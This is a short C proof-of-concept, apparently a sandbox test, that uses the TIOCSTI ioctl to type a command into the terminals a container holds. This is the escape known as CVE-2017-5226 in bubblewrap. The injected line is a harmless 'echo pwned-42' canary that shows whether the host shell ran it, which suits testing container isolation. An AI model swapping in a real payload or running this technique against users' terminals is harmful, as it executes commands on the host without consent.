/*
 * tiocsti.c - type a command into every terminal we hold, as an image could.
 *
 * ioctl(fd, TIOCSTI, &c) pushes the byte c into the input of the terminal
 * fd is open on, as if it had been typed.  If that terminal is the user's,
 * the user's shell reads the line once the container exits, and runs it
 * on the host (CVE-2017-5226 in bubblewrap).  The line pushed here prints
 * "pwned-42" when a shell runs it, and the typed text itself never shows
 * "pwned-42", so a screen with "pwned-42" on it means a shell ran it.
 *
 * Tries fds 0, 1 and 2 and /dev/tty, and prints one line for each:
 * "fd N: pushed" or "fd N: <why not>".  Exits 0 either way.
 *
 * See: ioctl_tty(2) (TIOCSTI), setsid(2), credentials(7)
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char line[] = "echo pwned-$((6*7))\n";

static void push(int fd, const char *name)
{
	for (const char *c = line; *c; c++) {
		if (ioctl(fd, TIOCSTI, c) == -1) {
			printf("%s: %s\n", name, strerror(errno));
			return;
		}
	}
	printf("%s: pushed\n", name);
}

int main(void)
{
	static const char *const names[] = {"fd 0", "fd 1", "fd 2"};
	int tty;

	for (int fd = 0; fd <= 2; fd++)
		push(fd, names[fd]);
	tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (tty == -1)
		printf("/dev/tty: %s\n", strerror(errno));
	else
		push(tty, "/dev/tty");
	return 0;
}
